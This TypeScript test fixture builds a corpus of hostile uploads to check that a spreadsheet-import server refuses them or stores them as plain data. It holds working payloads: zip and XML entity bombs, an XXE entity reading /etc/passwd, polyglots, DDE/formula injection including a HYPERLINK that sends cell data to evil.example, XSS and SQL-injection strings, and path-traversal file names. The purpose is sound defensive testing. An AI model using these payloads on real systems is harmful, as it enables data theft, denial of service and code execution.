/**
 * The hostile-input corpus (issue 10): files a unit's machine, a broken
 * export or an attacker might send. Each item says what it is and what the
 * server must answer: refused with one of the listed ETL error codes, or
 * loaded as plain data (formula injection, markup in cells, hostile names).
 * Large items (a 1,000,000-row sheet, 20,000 zip entries) are built only
 * when asked, at test time, into a temp folder.
 */
import ExcelJS from 'exceljs';
import { fixZipTimes } from '../lib/zipfix.js';
import { zip, type ZipEntry } from './zip.js';

export interface HostileItem {
  /** Name on disk under sample-data/hostile/ (safe). */
  file: string;
  /** Name sent in the upload (may be hostile: traversal, control characters). */
  uploadName: string;
  what: string;
  bytes: Buffer;
  /** refused: the job fails with one of `codes`; loaded: stored as data, nothing executed or written elsewhere. */
  expect: 'refused' | 'loaded';
  codes?: string[];
  large?: boolean;
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Danh sach" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`;
const SHEET_HEAD = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`;
const SHEET_TAIL = `</sheetData></worksheet>`;
const EMPTY_SST = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>`;

/** An .xlsx package around a worksheet body (streamed) and optional shared strings. */
function xlsx(sheet: ZipEntry['data'], sharedStrings: string = EMPTY_SST, sheetEntry: Partial<ZipEntry> = {}): Promise<Buffer> {
  return zip(xlsxEntries(sheet, sharedStrings, sheetEntry));
}

function xlsxEntries(sheet: ZipEntry['data'], sharedStrings: string = EMPTY_SST, sheetEntry: Partial<ZipEntry> = {}): ZipEntry[] {
  return [
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: '_rels/.rels', data: ROOT_RELS },
    { name: 'xl/workbook.xml', data: WORKBOOK },
    { name: 'xl/_rels/workbook.xml.rels', data: WORKBOOK_RELS },
    { name: 'xl/sharedStrings.xml', data: sharedStrings },
    { name: 'xl/worksheets/sheet1.xml', data: sheet, ...sheetEntry },
  ];
}

const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

function docx(documentXml: string): Promise<Buffer> {
  return zip([
    { name: '[Content_Types].xml', data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>` },
    { name: '_rels/.rels', data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>` },
    { name: 'word/document.xml', data: documentXml },
  ]);
}

/** A small, valid registration list as a commune sends it (the carrier for hostile names and cells). */
async function registrationList(rows: Array<[string, string, string]>): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  workbook.created = new Date(Date.UTC(2026, 0, 15));
  workbook.modified = workbook.created;
  const sheet = workbook.addWorksheet('Đăng ký');
  sheet.addRow(['ĐẢNG BỘ XÃ ĐÔNG HÒA']);
  sheet.addRow(['DANH SÁCH ĐĂNG KÝ MÔ HÌNH “DÂN VẬN KHÉO” NĂM 2026']);
  sheet.addRow([]);
  sheet.addRow(['STT', 'Tên mô hình', 'Lĩnh vực', 'Chủ thể thực hiện']);
  rows.forEach((r, i) => sheet.addRow([i + 1, ...r]));
  return fixZipTimes(Buffer.from(await workbook.xlsx.writeBuffer()));
}

const PLAIN_ROWS: Array<[string, string, string]> = [
  ['Dân vận khéo trong giải phóng mặt bằng', 'Kinh tế', 'UBND xã Đông Hòa'],
  ['Tổ hòa giải ở cơ sở thôn Đông', 'Quốc phòng - an ninh', 'Chi bộ thôn Đông'],
];

function* repeat(text: string, times: number): Generator<string> {
  const block = text.repeat(Math.max(1, Math.floor(65_536 / text.length)));
  const perBlock = Math.max(1, Math.floor(65_536 / text.length));
  let left = times;
  while (left >= perBlock) {
    yield block;
    left -= perBlock;
  }
  if (left > 0) yield text.repeat(left);
}

function* millionRowsSheet(rows: number): Generator<string> {
  yield SHEET_HEAD;
  yield `<row r="1">${inline('A1', 'STT')}${inline('B1', 'Tên mô hình')}${inline('C1', 'Lĩnh vực')}</row>`;
  let buf = '';
  for (let r = 2; r <= rows + 1; r++) {
    buf += `<row r="${r}"><c r="A${r}"><v>${r - 1}</v></c>${inline(`B${r}`, `Mô hình số ${r * 7919 % 1000003}`)}${inline(`C${r}`, 'Kinh tế')}</row>`;
    if (buf.length > 60_000) {
      yield buf;
      buf = '';
    }
  }
  yield buf + SHEET_TAIL;
}

const LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>`;

const SAFE_REFUSALS = ['CORRUPT_FILE', 'UNSUPPORTED_FORMAT', 'UNKNOWN_FORMAT', 'NOT_A_WORKBOOK', 'HTML_NOT_SPREADSHEET'];

export async function hostileCorpus(options: { large?: boolean } = {}): Promise<HostileItem[]> {
  const valid = await registrationList(PLAIN_ROWS);
  const validDocx = await docx(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${'<w:p><w:r><w:t>BÁO CÁO KẾT QUẢ THỰC HIỆN PHONG TRÀO THI ĐUA “DÂN VẬN KHÉO” NĂM 2026</w:t></w:r></w:p>'.repeat(40)}</w:body></w:document>`);
  const items: HostileItem[] = [
    {
      file: 'zip-bomb.xlsx', uploadName: 'zip-bomb.xlsx', expect: 'refused', codes: ['ZIP_BOMB'],
      what: 'a worksheet that inflates from ~100 KB to 100 MB (honest sizes in the headers)',
      bytes: await xlsx(() => repeat('<row><c><v>0</v></c></row>', 4_000_000)),
    },
    {
      file: 'zip-bomb-lying-sizes.xlsx', uploadName: 'bao-cao-6-thang.xlsx', expect: 'refused', codes: ['ZIP_BOMB', 'CORRUPT_FILE'],
      what: 'the same bomb with headers that declare 2 KB: only a capped inflate catches it',
      bytes: await xlsx(() => repeat('<row><c><v>0</v></c></row>', 4_000_000), EMPTY_SST, { declaredSize: 2048 }),
    },
    {
      file: 'xml-entity-bomb.xlsx', uploadName: 'xml-entity-bomb.xlsx', expect: 'refused', codes: ['XML_ENTITY'],
      what: '"billion laughs": nested XML entities expanding to gigabytes, in the shared strings',
      bytes: await xlsx(`${SHEET_HEAD}<row r="1">${'<c r="A1" t="s"><v>0</v></c>'}</row>${SHEET_TAIL}`,
        `${LAUGHS}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`),
    },
    {
      file: 'xxe-external-entity.xlsx', uploadName: 'xxe.xlsx', expect: 'refused', codes: ['XML_ENTITY'],
      what: 'an external entity pointing at /etc/passwd (XXE) in the worksheet',
      bytes: await xlsx(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${inline('A1', '&xxe;')}</row></sheetData></worksheet>`),
    },
    {
      file: 'xml-entity-bomb.docx', uploadName: 'bao-cao.docx', expect: 'refused', codes: ['XML_ENTITY', 'UNSUPPORTED_FORMAT'],
      what: '"billion laughs" in a Word document body',
      bytes: await docx(`${LAUGHS}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`),
    },
    {
      file: 'deep-nesting.xlsx', uploadName: 'deep-nesting.xlsx', expect: 'refused', codes: [...SAFE_REFUSALS, 'ZIP_BOMB', 'XML_TOO_DEEP', 'TIME_BUDGET'],
      what: '200,000 nested XML elements (stack exhaustion in recursive parsers)',
      bytes: await xlsx(() => [SHEET_HEAD, ...repeat('<x>', 200_000), ...repeat('</x>', 200_000), SHEET_TAIL]),
    },
    {
      file: 'truncated.xlsx', uploadName: 'dang-ky-2026.xlsx', expect: 'refused', codes: SAFE_REFUSALS,
      what: 'a valid registration list cut at 60 % (interrupted download or e-mail)',
      bytes: valid.subarray(0, Math.floor(valid.length * 0.6)),
    },
    {
      file: 'truncated.docx', uploadName: 'bao-cao-nam.docx', expect: 'refused', codes: SAFE_REFUSALS,
      what: 'a Word report cut at 50 %',
      bytes: validDocx.subarray(0, Math.floor(validDocx.length * 0.5)),
    },
    {
      file: 'empty.xlsx', uploadName: 'empty.xlsx', expect: 'refused', codes: [...SAFE_REFUSALS, 'EMPTY_FILE'],
      what: 'zero bytes',
      bytes: Buffer.alloc(0),
    },
    {
      file: 'html-disguised.xlsx', uploadName: 'danh-sach.xlsx', expect: 'refused', codes: SAFE_REFUSALS,
      what: 'an HTML page with a table and a script, named .xlsx (what some web portals export)',
      bytes: Buffer.from(`<!DOCTYPE html><html><head><meta charset="utf-8"><script>fetch('/api/users',{method:'POST'})</script></head><body><table><tr><td>STT</td><td>Tên mô hình</td></tr><tr><td>1</td><td>Dân vận khéo</td></tr></table></body></html>`),
    },
    {
      file: 'exe-disguised.xlsx', uploadName: 'setup.xlsx', expect: 'refused', codes: SAFE_REFUSALS,
      what: 'a Windows executable header (MZ … PE) named .xlsx',
      bytes: Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(64), Buffer.from('PE\x00\x00This program cannot be run in DOS mode.', 'latin1'), Buffer.alloc(400, 0x90)]),
    },
    {
      file: 'polyglot-pdf-zip.xlsx', uploadName: 'polyglot.xlsx', expect: 'refused', codes: SAFE_REFUSALS,
      what: 'a PDF header with a valid workbook appended (zip readers read from the end): a polyglot',
      bytes: Buffer.concat([Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'), valid]),
    },
    {
      file: 'polyglot-html-zip.xlsx', uploadName: 'polyglot-html.xlsx', expect: 'refused', codes: SAFE_REFUSALS,
      what: 'an HTML page with a script, followed by a valid workbook: renders as a page if ever served inline',
      bytes: Buffer.concat([Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>\n'), valid]),
    },
    {
      file: 'corrupt-ole.xls', uploadName: 'bieu-tong-hop.xls', expect: 'refused', codes: SAFE_REFUSALS,
      what: 'an OLE2 (legacy .xls/.doc) signature followed by garbage',
      bytes: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4096, 0x41)]),
    },
    {
      file: 'random-bytes.csv', uploadName: 'random.csv', expect: 'refused', codes: [...SAFE_REFUSALS, 'NO_TABLE', 'BINARY_CSV'],
      what: '64 KB of pseudo-random bytes named .csv',
      bytes: pseudoRandom(65_536),
    },
    {
      file: 'formula-injection.xlsx', uploadName: 'cong-thuc.xlsx', expect: 'loaded',
      what: 'cells that a spreadsheet would execute when exported again (= + - @, DDE)',
      bytes: await registrationList([
        ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', 'Kinh tế', 'UBND xã Đông Hòa'],
        ["+cmd|' /C calc'!A0", 'Văn hóa - xã hội', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
        ['-2+3+cmd|\' /C notepad\'!A0', 'Kinh tế', '=1+1'],
      ]),
    },
    {
      file: 'formula-injection.csv', uploadName: 'cong-thuc.csv', expect: 'loaded',
      what: 'the same as CSV, plus a tab-prefixed formula',
      bytes: Buffer.from('\ufeffSTT,Tên mô hình,Lĩnh vực,Chủ thể thực hiện\n1,"=HYPERLINK(""http://evil.example"",""x"")",Kinh tế,UBND xã Đông Hòa\n2,"+cmd|\' /C calc\'!A0",Kinh tế,"@SUM(1)"\n3,"\t=1+1",Kinh tế,"-1+1"\n'),
    },
    {
      file: 'markup-in-cells.xlsx', uploadName: 'markup.xlsx', expect: 'loaded',
      what: 'HTML and script in cell text (stored XSS if a page ever rendered it as HTML)',
      bytes: await registrationList([
        ['<img src=x onerror=alert(1)>Mô hình', 'Kinh tế', '<script>alert(1)</script>UBND xã'],
        ['Mô hình "an toàn" & <b>đậm</b>', 'Kinh tế', "Chi bộ ' or 1=1 --"],
      ]),
    },
  ];
  const names: Array<[string, string]> = [
    ['name-traversal-unix.xlsx', '../../etc/passwd.xlsx'],
    ['name-traversal-windows.xlsx', '..\\..\\Windows\\win.ini.xlsx'],
    ['name-absolute.xlsx', '/etc/cron.d/dvk.xlsx'],
    ['name-control-chars.xlsx', 'bao\u0000cao\r\n\u001b[31m.xlsx'],
    ['name-rtl-override.xlsx', 'dang-ky-\u202Excod.exe.xlsx'],
    ['name-very-long.xlsx', `${'Danh sách đăng ký mô hình dân vận khéo '.repeat(12)}.xlsx`],
  ];
  for (const [file, uploadName] of names) {
    items.push({ file, uploadName, expect: 'loaded', what: `a valid list uploaded as ${JSON.stringify(uploadName)}: the name is data, never a path`, bytes: valid });
  }
  if (options.large) {
    items.push(
      {
        file: 'million-rows.csv', uploadName: 'million-rows.csv', expect: 'refused', codes: ['TOO_MANY_CELLS', 'TIME_BUDGET'], large: true,
        what: '1,000,000 data rows × 3 columns as CSV (~14 MB, under the size limit: the cell budget must stop it)',
        bytes: Buffer.from(millionCsv(1_000_000)),
      },
      {
        file: 'million-rows.xlsx', uploadName: 'million-rows.xlsx', expect: 'refused', codes: ['TOO_MANY_CELLS', 'TIME_BUDGET', 'ZIP_BOMB', 'FILE_TOO_LARGE'], large: true,
        what: '1,000,000 data rows × 3 columns as a streamed worksheet',
        bytes: await xlsx(() => millionRowsSheet(1_000_000)),
      },
      {
        file: 'zip-many-entries.xlsx', uploadName: 'many-entries.xlsx', expect: 'refused', codes: ['ZIP_BOMB'], large: true,
        what: 'a workbook with 20,000 extra zip entries (central directory exhaustion)',
        bytes: await zip([...xlsxEntries(`${SHEET_HEAD}${SHEET_TAIL}`), ...Array.from({ length: 20_000 }, (_, i) => ({ name: `x/${i}`, data: '', store: true }))]),
      },
    );
  }
  return items;
}

function millionCsv(rows: number): string {
  const parts: string[] = ['STT,Tên mô hình,Lĩnh vực\n'];
  for (let i = 1; i <= rows; i++) parts.push(`${i},M${i % 997},KT\n`);
  return parts.join('');
}

function pseudoRandom(length: number): Buffer {
  const out = Buffer.alloc(length);
  let x = 0x2545f491;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}
